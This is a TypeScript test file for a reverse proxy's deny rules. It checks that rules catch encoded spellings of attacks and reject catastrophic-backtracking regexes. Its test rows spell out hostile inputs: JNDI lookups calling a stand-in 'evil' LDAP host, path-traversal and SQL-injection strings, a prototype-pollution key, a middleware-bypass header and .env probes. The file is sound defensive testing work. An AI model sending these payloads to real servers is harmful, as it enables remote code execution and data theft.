/** Rules for rapid mitigation: which spellings of an attack they find, where they stand, and what they never cost. */
import assert from 'node:assert/strict';
import {describe, test, type TestContext} from 'node:test';
import {RE2JS} from 're2js';
import {loadConfig} from '#src/config/load.ts';
import type {RuleSnapshot} from '#src/config/snapshot.ts';
import {RequestHead} from '#src/http1/request-head.ts';
import {compileRuleSet, matchesRule, RuleSubject} from '#src/policy/rules.ts';
import {createMemorySource} from '#test/config/memory-source.ts';
import {customerText, NODE_FILE, NODE_TEXT} from '#test/config/customers.ts';
import {assertServes, attack} from '#test/support/attack.ts';
import {FakeUpstream} from '#test/support/fake-upstream.ts';
import {ProxyHarness} from '#test/support/proxy-harness.ts';
import {statusOf} from '#test/support/raw-message.ts';
import {acme, customer, node, route, site} from '#test/support/snapshots.ts';

function rule(name: string, conditions: Partial<RuleSnapshot>): RuleSnapshot {
  return {name, action: 'deny', methods: [], path: null, query: null, headers: [], ...conditions};
}

function isFound(conditions: Partial<RuleSnapshot>, method: string, target: string, fields = ''): boolean {
  const head = new RequestHead();
  const bytes = Buffer.from(`${method} ${target} HTTP/1.1\r\nhost: acme.test\r\n${fields}\r\n`, 'latin1');
  assert.equal(head.parse(bytes, 0, bytes.length), bytes.length);
  const compiled = compileRuleSet('acme', [rule('r', conditions)])?.rules[0];
  assert.ok(compiled !== undefined);
  return matchesRule(compiled, new RuleSubject(method, target, head.fields));
}

type Row = readonly [what: string, conditions: Partial<RuleSnapshot>, method: string, target: string, fields: string];

const JNDI = '(?i)\\$\\{jndi:';

const FOUND: readonly Row[] = [
  ['a path', {path: '^/actuator/'}, 'GET', '/actuator/env', ''],
  ['a path with an escaped letter that stays escaped', {path: '/a b$'}, 'GET', '/a%20b', ''],
  ['a path that is escaped twice', {path: '\\.\\./'}, 'GET', '/a%252E%252E%252Fb', ''],
  ['a path with parameters between', {path: '^/admin/secret'}, 'GET', '/admin;x=1/secret', ''],
  ['a path with an escaped semicolon', {path: '^/admin/secret'}, 'GET', '/admin%3Bx=1/secret', ''],
  ['letters beyond ASCII', {path: 'é$'}, 'GET', '/caf%C3%A9', ''],
  ['a query', {query: JNDI}, 'GET', '/?x=${jndi:ldap://evil}', ''],
  ['an escaped query', {query: JNDI}, 'GET', '/?x=%24%7Bjndi%3Aldap://evil}', ''],
  ['a query that is escaped twice', {query: JNDI}, 'GET', '/?x=%2524%257Bjndi%253Aldap://evil}', ''],
  ['a plus for a space', {query: 'union select'}, 'GET', '/?q=union+select', ''],
  ['a plus that is one, beside an escape', {query: '__proto__\\+x'}, 'GET', '/?q=__%70roto__+x', ''],
  ['a plus that is one, beside a letter that is escaped twice', {query: '__proto__\\+x'}, 'GET', '/?q=__%2570roto__+x', ''],
  ['an escape of ASP', {query: JNDI}, 'GET', '/?x=%u0024%u007bjn%u0064i:', ''],
  ['an escape in more bytes than it needs', {query: '\\.\\./'}, 'GET', '/?file=%c0%ae%C0%AE%c0%af', ''],
  ['an escape in three bytes where one would do', {query: '\\.\\./'}, 'GET', '/?file=%e0%80%ae%e0%80%ae/', ''],
  ['a path whose escaped slash stands in a parameter', {path: '^/a b$'}, 'GET', '/a%20b;x%2Fy', ''],
  ['a header', {headers: [['x-api-version', JNDI]]}, 'GET', '/', 'X-API-Version: ${JNDI:ldap://evil}\r\n'],
  ['the second line of a header', {headers: [['x-a', '^evil$']]}, 'GET', '/', 'x-a: good\r\nx-a: evil\r\n'],
  ['a value that is cut over two lines', {headers: [['x-a', 'a, b']]}, 'GET', '/', 'x-a: a\r\nx-a: b\r\n'],
  ['a header that is there at all', {headers: [['x-middleware-subrequest', '.*']]}, 'GET', '/', 'X-Middleware-Subrequest:\r\n'],
  ['HEAD where GET is named', {methods: ['GET']}, 'HEAD', '/', ''],
  ['all conditions together', {methods: ['POST'], path: '^/x', query: 'y', headers: [['x-a', '1']]}, 'POST', '/x?y', 'x-a: 1\r\n'],
];

const NOT_FOUND: readonly Row[] = [
  ['another method', {methods: ['POST'], path: '^/x'}, 'GET', '/x', ''],
  ['the query in place of the path', {path: 'evil'}, 'GET', '/?evil', ''],
  ['the path in place of the query', {query: 'evil'}, 'GET', '/evil', ''],
  ['one header of two', {headers: [['x-a', '1'], ['x-b', '1']]}, 'GET', '/', 'x-a: 1\r\n'],
  ['a header that is not there', {headers: [['x-a', '.*']]}, 'GET', '/', ''],
  ['a name that only begins alike', {headers: [['x-a', '.*']]}, 'GET', '/', 'x-ab: 1\r\n'],
  ['a half escape', {query: '^%$'}, 'GET', '/?%4', ''],
];

describe('what a rule finds', () => {
  for (const [what, conditions, method, target, fields] of FOUND) test(what, () => { assert.ok(isFound(conditions, method, target, fields)); });
});

describe('what a rule does not find', () => {
  for (const [what, conditions, method, target, fields] of NOT_FOUND) test(what, () => { assert.ok(!isFound(conditions, method, target, fields)); });
});

test('patterns on which backtracking never ends are matched in linear time', () => {
  // Each would take longer than the universe has existed in Node's own engine.
  const longest = 'a'.repeat(8_000);
  for (const pattern of ['^(a+)+$', '^(a|a)*$', '^(a|aa)+$', '^(.*a){20}$', '(x+x+)+y']) {
    assert.equal(RE2JS.compile(pattern).test(`${longest}!`), false, pattern);
  }
});

test('patterns that need backtracking, and those that are too large, are refused with their place', async () => {
  const load = async (pattern: string): Promise<readonly string[]> => {
    const text = `${customerText('acme', 1)}rules: [{name: r, path: '${pattern}'}]\n`;
    const files = new Map([[NODE_FILE, NODE_TEXT], ['/etc/customers/acme.yaml', text]]);
    return (await loadConfig(NODE_FILE, createMemorySource(files), {machine: {cores: 1, memoryBytes: 2 ** 30}, nowMs: 0})).problems.map(({key}) => key);
  };
  for (const pattern of ['(a)\\1', '(?=a)', '(?<!a)b', '(', 'a{1001}', 'a{300}', 'a'.repeat(513)]) assert.deepEqual(await load(pattern), ['rules[0].path'], pattern);
  for (const pattern of ['a{200}', '(?i)wp-login', '\\p{Greek}']) assert.deepEqual(await load(pattern), [], pattern);
});

interface Stage {
  readonly proxy: ProxyHarness;
  readonly upstream: FakeUpstream;
}

async function start(context: TestContext): Promise<Stage> {
  const upstream = await FakeUpstream.start(context);
  const base = acme([upstream.port]);
  const routes = [
    route('/', {}), route('/shop', {rules: [rule('shop-only', {query: 'evil'})]}),
    route('/moved', {action: {type: 'redirect', status: 302, location: '/', keepTarget: false}, rules: [rule('moved', {query: 'evil'})]}),
  ];
  const own = {...base, rules: [rule('watched', {action: 'observe', query: 'odd'}), rule('env', {path: '^/\\.env'})], sites: [site(['acme.test'], routes)]};
  const other = customer('other', {pools: base.pools, sites: [site(['other.test'], [route('/')])]});
  const proxy = await ProxyHarness.start(context, {customers: [own, other], node: {rules: [rule('jndi', {headers: [['user-agent', JNDI]]})]}});
  return {proxy, upstream};
}

const ATTACKS = {
  'a rule of the node': 'GET / HTTP/1.1\r\nhost: acme.test\r\nuser-agent: ${jndi:ldap://evil}\r\n\r\n',
  'a rule of the node, for another customer': 'GET / HTTP/1.1\r\nhost: other.test\r\nuser-agent: ${jndi:ldap://evil}\r\n\r\n',
  'a rule of the customer': 'GET /.env HTTP/1.1\r\nhost: acme.test\r\n\r\n',
  'a rule of the route': 'GET /shop/a?evil HTTP/1.1\r\nhost: acme.test\r\n\r\n',
  'a rule of a route without a pool': 'GET /moved?evil HTTP/1.1\r\nhost: acme.test\r\n\r\n',
  'a rule, with a body': 'POST /.env HTTP/1.1\r\nhost: acme.test\r\ncontent-length: 4\r\n\r\nbody',
};

for (const [what, bytes] of Object.entries(ATTACKS)) {
  test(`denied by ${what}`, async (context) => { await attack(context, await start(context), bytes, 'rule_denied'); });
}

test('a rule stays where it was written', async (context) => {
  const {proxy, upstream} = await start(context);
  const client = await proxy.connect(context);
  for (const [host, target] of [['other.test', '/.env'], ['acme.test', '/?evil']] as const) {
    client.send(`GET ${target} HTTP/1.1\r\nhost: ${host}\r\n\r\n`);
    assert.equal(statusOf(await client.response()), 200);
    assert.equal((await upstream.nextRequest()).startLine, `GET ${target} HTTP/1.1`);
  }
});

test('the log and the tally name rules: those that deny, and those that only observe', async (context) => {
  const {proxy, upstream} = await start(context);
  const client = await proxy.connect(context);
  const seen: unknown[] = [];
  for (const target of ['/?odd', '/.env?odd', '/']) {
    client.send(`GET ${target} HTTP/1.1\r\nhost: acme.test\r\n\r\n`);
    await client.response();
    const line = await proxy.nextLogLine();
    seen.push([line['status'], line['rule']]);
  }
  assert.deepEqual(seen, [[200, 'watched'], [403, 'env'], [200, undefined]]);
  assert.deepEqual(proxy.proxy.takeRuleMatches(), [
    {customer: 'acme', rule: 'watched', action: 'observe', count: 2}, {customer: 'acme', rule: 'env', action: 'deny', count: 1},
  ]);
  assert.deepEqual(proxy.proxy.takeRuleMatches(), []);
  await assertServes(context, {proxy, upstream});
});

test('a reload puts a rule in force for open connections, and takes it away', async (context) => {
  const upstream = await FakeUpstream.start(context);
  const proxy = await ProxyHarness.start(context, {customers: [acme([upstream.port])]});
  const client = await proxy.connect(context);
  const ask = async (): Promise<number> => {
    client.send('GET /fresh-hole HTTP/1.1\r\nhost: acme.test\r\n\r\n');
    return statusOf(await client.response());
  };
  const statuses = [await ask()];
  await proxy.reload({node: node({...proxy.node, rules: [rule('hole', {path: '^/fresh-hole'})]})});
  statuses.push(await ask());
  await proxy.reload({node: node({...proxy.node, rules: []})});
  statuses.push(await ask());
  assert.deepEqual(statuses, [200, 403, 200]);
});
